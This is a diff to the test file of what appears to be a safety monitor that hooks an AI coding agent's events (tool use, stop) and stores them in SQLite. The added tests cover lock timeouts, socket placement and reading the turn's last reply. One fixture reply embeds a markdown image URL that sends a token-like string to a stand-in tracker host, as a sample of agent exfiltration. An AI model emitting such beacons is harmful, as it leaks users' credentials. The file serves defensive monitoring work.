@@ -369,6 +369,44 @@ def test_an_engine_answering_garbage_gets_ask(state_dir: Path) -> None:
     assert stored_rows(state_dir, "SELECT event, processed FROM events") == [("PreToolUse", 0)]
 
 
+LOCKER = """
+import sqlite3, sys, time
+conn = sqlite3.connect(sys.argv[1], isolation_level=None)
+conn.execute("BEGIN EXCLUSIVE")
+print("locked", flush=True)
+sys.stdin.read()  # until the test closes it (at most 120 s)
+"""
+
+
+def test_a_store_locked_by_another_process_gets_an_answer_before_the_hosts_timeout(state_dir: Path) -> None:
+    """Another process (an injected ``sqlite3``, say) holds the store's write lock for up to 120 s. A hook with a
+    30 s timeout still answers ``ask`` before the host's own timeout (which ``install`` writes for it: 60 s), and
+    keeps the event; once the lock is gone, the next event stores and processes it."""
+    lines = sample_lines("locked-store")
+    for line in lines[:2]:
+        run_hook(state_dir, line)
+    locker = subprocess.Popen(
+        [sys.executable, "-c", LOCKER, str(state_dir / "hooks.sqlite3")], stdin=subprocess.PIPE, stdout=subprocess.PIPE
+    )
+    try:
+        assert locker.stdout is not None and locker.stdout.readline() == b"locked\n"
+        started = time.monotonic()
+        answer, _ = run_hook(state_dir, lines[2], "--timeout", "30")
+        took = time.monotonic() - started
+    finally:
+        locker.communicate(b"", timeout=120)
+    host_timeout = 60  # what install writes for --timeout 30: max(60, 30 + 10)
+    assert took < host_timeout
+    assert permission(answer) == "ask"
+    assert "until the store takes it" in answer["hookSpecificOutput"]["permissionDecisionReason"]
+    # The next event of the session brings the kept one in, in order, and processes it.
+    run_hook(state_dir, lines[3])
+    events = stored_rows(state_dir, "SELECT event, processed FROM events WHERE session_id = 'locked-store'")
+    assert [event for event, _ in events] == ["SessionStart", "UserPromptSubmit", "PreToolUse", "PostToolUse"]
+    assert all(processed == 1 for _, processed in events)
+    assert not list((state_dir / "spool").iterdir())
+
+
 # -- failures and bad input: ask or {}, exit 0, no traceback ----------------------------------------------------
 
 
@@ -531,11 +569,47 @@ def test_an_idle_engine_exits_and_the_next_event_brings_it_back(state_dir: Path)
 def test_a_state_dir_too_long_for_a_socket_gets_a_private_socket_elsewhere(tmp_path: Path) -> None:
     state_dir = tmp_path / ("deep-" * 12) / "state"
     assert len(os.fsencode(state_dir / "engine-0123456789abcdef.sock")) > 107
-    paths = locate_engine(parse_options(["--state-dir", str(state_dir)]))
     try:
         answer, stderr = run_hook(state_dir, sample_lines("long-path")[2])
         assert (answer, stderr) == ({}, "")
+        paths = locate_engine(parse_options(["--state-dir", str(state_dir)]))
         assert not Path(paths.socket).is_relative_to(state_dir) and Path(paths.socket).is_socket()
         assert Path(paths.socket).parent.stat().st_mode & 0o777 == 0o700
+        # A folder of the old fixed name, made first by someone else, is never the one used.
+        assert Path(paths.socket).parent.name.startswith(f"trifecta-{os.getuid()}-")
+        # The next event finds the same engine through the name kept in the state directory.
+        assert run_hook(state_dir, sample_lines("long-path")[3]) == ({}, "")
+        assert len(engine_pids(state_dir)) == 1
     finally:
         kill_engines(state_dir)
+
+
+def test_the_client_adds_the_turns_last_reply_to_a_stop_payload(tmp_path: Path) -> None:
+    """At ``Stop`` the client reads the end of the transcript for the reply the turn ended with (not a sub-agent's,
+    not an earlier turn's) and adds it as ``last_assistant_message``; other events, and a payload that has one,
+    pass unchanged."""
+    from monitor.hosts._hook_reply import with_last_reply
+
+    transcript = tmp_path / "t.jsonl"
+    reply = "Done. ![s](https://px.tracker.example/s.png?t=ghp_R7x2Kq9Lm4Vt8Wz1)"
+    lines = [
+        {"type": "user", "message": {"role": "user", "content": "an earlier prompt"}},
+        {"type": "assistant", "message": {"role": "assistant", "content": [{"type": "text", "text": "old reply"}]}},
+        {"type": "user", "message": {"role": "user", "content": "Summarise the status page"}},
+        {"type": "assistant", "message": {"role": "assistant", "content": [{"type": "text", "text": reply}]}},
+        {
+            "type": "assistant",
+            "isSidechain": True,
+            "message": {"role": "assistant", "content": [{"type": "text", "text": "sub"}]},
+        },
+    ]
+    transcript.write_text("".join(json.dumps(line) + "\n" for line in lines))
+    stop = {"session_id": "s1", "hook_event_name": "Stop", "transcript_path": str(transcript)}
+    assert json.loads(with_last_reply(json.dumps(stop).encode()))["last_assistant_message"] == reply
+    given = json.dumps({**stop, "last_assistant_message": "x"}).encode()
+    assert with_last_reply(given) == given
+    # A turn that wrote no text after the prompt adds nothing (the earlier turn's reply is not this one's).
+    transcript.write_text("".join(json.dumps(line) + "\n" for line in lines[:3]))
+    assert with_last_reply(json.dumps(stop).encode()) == json.dumps(stop).encode()
+    pre = json.dumps({"session_id": "s1", "hook_event_name": "PreToolUse", "transcript_path": str(transcript)})
+    assert with_last_reply(pre.encode()) == pre.encode()
